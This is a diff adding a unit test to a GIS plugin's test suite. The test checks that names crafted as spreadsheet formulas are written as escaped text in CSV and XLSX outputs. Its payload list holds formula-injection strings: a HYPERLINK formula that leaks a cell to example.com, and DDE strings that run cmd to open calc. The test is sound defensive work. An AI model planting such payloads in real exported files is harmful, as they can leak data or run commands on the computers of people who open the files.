@@ -318,3 +318,35 @@ def test_the_next_run_removes_what_a_killed_run_left(prepared, run_alg, tmp_path
     run_alg("esv", dict(prepared.params("esv"), OUTPUT=str(book) + "|layername=esv"), Feedback())
     assert sorted(layer_names(book)) == ["esv", "keep"]
     assert any("esv_ecocomp_partial_0123abcd" in text for text in said)
+
+
+PAYLOADS = ['=HYPERLINK("http://example.com/?"&A2,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
+            "=1+2"]
+
+
+def test_no_text_cell_is_written_as_a_formula(run_alg, polygons, tmp_path):
+    """Unit names crafted as formulas (the classic payloads) are written as text: an apostrophe before them in every
+    CSV (the template, the transfers table), plain strings in the XLSX template — never a formula that a spreadsheet
+    runs; numbers in the same files stay numbers."""
+    import csv
+    import zipfile
+
+    layer = polygons([("adcode", "string"), ("name", "string"), ("payment", "double")],
+                     [("42010{}".format(i), payload, (-1.0) ** i * (i + 1) * 10.0)
+                      for i, payload in enumerate(PAYLOADS)] + [("420199", "-12.5", 5.0)], "units")
+    template = run_alg("statstemplate", {"INPUT": layer, "KEY_FIELD": "adcode", "NAME_FIELD": "name", "CHAIN": 2,
+                                         "OUTPUT_XLSX": str(tmp_path / "t.xlsx"), "OUTPUT_CSV": str(tmp_path / "t.csv")})
+    with open(template["OUTPUT_CSV"], encoding="utf-8-sig", newline="") as handle:
+        names = [row[1] for row in list(csv.reader(handle))[1:]]
+    assert names == ["'" + p for p in PAYLOADS] + ["-12.5"]
+    with zipfile.ZipFile(template["OUTPUT_XLSX"]) as book:
+        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet for sheet in sheets)  # no formula element anywhere
+    out = run_alg("transfers", {"INPUT": layer, "METHOD": 0, "OUTPUT": str(tmp_path / "u.gpkg"),
+                                "OUTPUT_TABLE": str(tmp_path / "od.csv"), "OUTPUT_LINES": str(tmp_path / "l.gpkg")})
+    with open(out["OUTPUT_TABLE"], encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [r[k] for r in rows for k in ("payer_name", "receiver_name")]
+    assert cells and all(not c.startswith(("=", "+", "@")) and not (c.startswith("-") and c != "-12.5")
+                         for c in cells), cells
+    assert all(float(r["amount"]) > 0 for r in rows)  # numbers stay numbers
